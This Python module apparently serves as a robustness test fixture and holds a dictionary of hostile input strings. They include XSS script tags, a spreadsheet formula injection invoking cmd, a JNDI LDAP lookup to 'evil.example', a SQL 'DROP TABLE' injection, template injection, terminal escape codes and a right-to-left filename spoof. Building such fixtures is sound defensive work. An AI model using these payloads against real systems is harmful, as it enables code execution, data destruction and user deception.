"""Texts that break what does not expect them."""

from __future__ import annotations

HOSTILE = {
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>&lt;b&gt;</pre></div>",
    "markdown": "[click](http://evil.example) **bold** `code` ```\n# title\n- [ ] a\n| a | b |\n![x](http://evil.example/x.png)",
    "textile": 'h1. title "click":http://evil.example *bold* {{macro}} !http://evil.example/x.png!',
    "formula": "=cmd|' /C calc'!A0\n+1+1\n@SUM(1)\t-2",
    "ansi": "\x1b[2J\x1b]0;title\x07\x9b31mred",
    "nul": "before\x00after",
    "long": "长" * 64 * 1024,
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301 \U0001f525",
    "right to left": "\u202egnp.exe\u202c \u2066x\u2069",
    "lines": "a\r\nb\rc\u2028d\u2029e\x85f",
    "template": "{number} {{7*7}} ${jndi:ldap://evil.example} %s %(x)s",
    "marker": f"[answerby effect={'b2' * 16} priority=low]",
    "quotes": '\'; DROP TABLE tickets; -- " \\ \\" \\u0000',
}
